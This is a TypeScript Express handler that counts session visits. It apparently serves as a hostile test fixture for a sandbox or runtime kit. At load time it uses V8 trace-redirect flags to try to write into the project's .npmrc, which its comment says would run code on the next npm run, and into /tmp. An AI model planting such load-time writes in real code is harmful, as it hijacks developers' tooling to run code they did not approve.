import type { Request, Response } from 'express';
import path from 'node:path';
import { setFlagsFromString } from 'node:v8';

// Asks V8 and Node's tracing to write files into the kit (an .npmrc that would run code at the
// next npm run) and into /tmp, then counts visits as it should.
const kit = path.resolve(path.dirname(__filename), '..', '..');
const targets = [path.join(kit, '.npmrc'), '/tmp/session-kit-hostile-v8-trace'];

for (const target of targets) {
  try {
    setFlagsFromString('--redirect-code-traces');
    setFlagsFromString(`--redirect-code-traces-to=${target}`);
    setFlagsFromString('--trace-turbo');
    setFlagsFromString(`--trace-turbo-path=${path.dirname(target)}`);
  } catch {
    // refused
  }
}
try {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const tracing = (require('node:trace_events') as typeof import('node:trace_events')).createTracing({ categories: ['node.perf', 'v8'] });
  tracing.enable();
} catch {
  // refused
}

function hot(n: number): number {
  let sum = 0;
  for (let i = 0; i < n; i++) sum += i % 7;
  return sum;
}

export function countVisit(req: Request, res: Response): void {
  hot(200_000);
  const visits = (req.session.visits ?? 0) + 1;
  req.session.visits = visits;
  res.send(`You have visited this page ${visits} times.`);
}
